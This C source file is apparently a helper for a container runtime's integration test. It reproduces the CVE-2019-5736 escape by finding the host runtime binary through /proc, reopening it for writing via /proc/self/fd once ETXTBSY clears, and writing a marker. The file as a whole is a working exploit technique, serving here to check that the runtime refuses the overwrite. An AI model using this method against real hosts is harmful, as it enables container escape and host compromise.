/*
 * exe_attack: the CVE-2019-5736 attacker, run inside a container by
 * tests/integration/test_exe_escape.py.
 *
 * It watches /proc for a process whose executable is foreign (neither
 * this helper nor the container's busybox): a runtime binary the container
 * managed to run as one of its processes (`#!/proc/self/exe`). It keeps an
 * fd on that executable, says "found", waits until the test lets the
 * process go and it has exited (ETXTBSY ends), then reopens the fd for
 * writing through /proc/self/fd and writes a marker at its start.
 * Output, one line each: "found pid=N exe=LINK", then "WROTE" or
 * "REFUSED open|write <errno>", or "NOTHING" when nothing was found in time.
 *
 *   exe_attack TIMEOUT_MS
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static int same_file(const struct stat* a, const struct stat* b) {
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char** argv) {
    long timeout = argc > 1 ? atol(argv[1]) : 5000;
    long deadline = now_ms() + timeout;
    struct stat self, busybox;
    memset(&busybox, 0, sizeof busybox);
    if (stat("/proc/self/exe", &self) < 0) {
        printf("ERROR stat /proc/self/exe %s\n", strerror(errno));
        return 1;
    }
    stat("/bin/busybox", &busybox);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("watching\n");
    while (now_ms() < deadline) {
        DIR* d = opendir("/proc");
        if (!d) return 1;
        struct dirent* e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char path[64], link[4096];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) < 0 || same_file(&st, &self) || same_file(&st, &busybox)) {
                close(fd);
                continue;
            }
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            printf("found pid=%d exe=%s\n", pid, link);
            /* The test now lets the process go; reopen once it has exited. */
            char fdpath[64];
            snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
            int w = -1, err = 0;
            while (now_ms() < deadline) {
                w = open(fdpath, O_WRONLY | O_CLOEXEC);
                err = errno;
                if (w >= 0 || err != ETXTBSY) break;
                usleep(1000);
            }
            if (w < 0) {
                printf("REFUSED open %s\n", strerror(err));
                return 0;
            }
            if (write(w, "PWNED-BY-CONTAINER", 18) == 18) {
                printf("WROTE\n");
            } else {
                err = errno;
                printf("REFUSED write %s\n", strerror(err));
            }
            return 0;
        }
        closedir(d);
        usleep(2000);
    }
    printf("NOTHING\n");
    return 0;
}
